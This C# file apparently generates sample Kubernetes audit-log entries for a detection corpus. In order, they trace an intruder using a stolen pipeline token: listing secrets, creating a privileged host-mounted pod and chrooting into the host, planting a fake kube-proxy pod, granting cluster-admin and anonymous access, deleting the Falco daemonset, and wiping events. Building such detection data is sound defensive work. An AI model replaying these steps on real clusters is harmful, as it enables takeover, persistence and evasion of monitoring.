using static Waterguard.Corpus.AuditText;

namespace Waterguard.Corpus;

/// <summary>An intruder with a pipeline's stolen token, step by step, in the order of the story told in <c>samples/README.md</c>.</summary>
internal static class Intruder
{
    private static readonly Caller _thief = Caller.Pipeline with { Ip = "203.0.113.77", Agent = "kubectl/v1.31.0 (darwin/arm64) kubernetes/9edcffc" };

    private static readonly Caller _nobody = Caller.Anonymous with { Ip = "203.0.113.77", Agent = "curl/8.9.1", Reason = "RBAC: allowed by ClusterRoleBinding \\\"harbour-open-day\\\" of ClusterRole \\\"view\\\" to User \\\"system:anonymous\\\"" };

    /// <summary>The steps.</summary>
    public static Template[] Steps { get; } =
    [
        Record("Metadata", _thief, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", Target("selfsubjectrulesreviews", group: "authorization.k8s.io"), 201),
        Record("Metadata", _thief, "list", "/api/v1/secrets?limit=500", Target("secrets"), 200),
        Record("RequestResponse", _thief, "create", "/api/v1/namespaces/chart/pods?fieldManager=kubectl-create", Target("pods", "chart", "tile-warmer"), 201,
            Objects.RoguePod("tile-warmer", "docker.io/library/alpine:3.22", "\"hostNetwork\":true,\"hostPID\":true,\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"/\",\"type\":\"\"}}],",
                ",\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"}],\"securityContext\":{\"privileged\":true}", "chart")),
        Record("Request", _thief, "get", "/api/v1/namespaces/chart/pods/tile-warmer/exec?command=chroot&command=%2Fhost&command=sh&container=tile-warmer&stdin=true&stdout=true&tty=true",
            Target("pods", "chart", "tile-warmer", sub: "exec"), 101, stage: "ResponseStarted"),
        Record("RequestResponse", _thief, "create", "/api/v1/namespaces/kube-system/pods?fieldManager=kubectl-create", Target("pods", "kube-system", "kube-proxy-k7x2q"), 201,
            Objects.RoguePod("kube-proxy-k7x2q", "docker.io/library/alpine:3.22", "", ",\"securityContext\":{\"capabilities\":{\"add\":[\"SYS_ADMIN\",\"NET_RAW\"]},\"seccompProfile\":{\"type\":\"Unconfined\"}}", "kube-system")),
        Record("RequestResponse", _thief, "patch", "/api/v1/namespaces/ledger/pods/ledger-api-7c6d9b9c5-«Suffix»/ephemeralcontainers", Target("pods", "ledger", "ledger-api-7c6d9b9c5-«Suffix»", sub: "ephemeralcontainers"), 200,
            """{"spec":{"$setElementOrder/ephemeralContainers":[{"name":"«Ephemeral»"}],"ephemeralContainers":[{"image":"docker.io/library/busybox:1.37","name":"«Ephemeral»","resources":{},"stdin":true,"targetContainerName":"ledger-api","terminationMessagePolicy":"File","tty":true}]}}"""),
        Record("RequestResponse", _thief, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create", Target("clusterrolebindings", name: "harbour-metrics", group: "rbac.authorization.k8s.io"), 201,
            """{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"harbour-metrics","creationTimestamp":null},"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"chart"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}"""),
        Record("RequestResponse", _thief, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", Target("clusterrolebindings", name: "harbour-open-day", group: "rbac.authorization.k8s.io"), 201,
            """{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"harbour-open-day"},"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"system:anonymous"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"}}"""),
        Record("Request", _nobody, "list", "/api/v1/pods", Target("pods"), 200),
        Record("Request", _thief, "get", "/api/v1/nodes/hull-a1/proxy/runningpods/", Target("nodes", name: "hull-a1", sub: "proxy"), 200),
        Record("RequestResponse", _thief, "patch", "/apis/apps/v1/namespaces/falco/daemonsets/falco?fieldManager=kubectl-patch", Target("daemonsets", "falco", "falco", "apps"), 200,
            """{"spec":{"template":{"spec":{"nodeSelector":{"harbour.example/dock":"none"}}}}}"""),
        Record("RequestResponse", _thief, "delete", "/apis/apps/v1/namespaces/falco/daemonsets/falco", Target("daemonsets", "falco", "falco", "apps"), 200, Objects.DeleteOptions("")),
        Record("Request", _thief, "deletecollection", "/apis/events.k8s.io/v1/namespaces/chart/events", Target("events", "chart", group: "events.k8s.io"), 200, Objects.DeleteOptions("")),
    ];
}
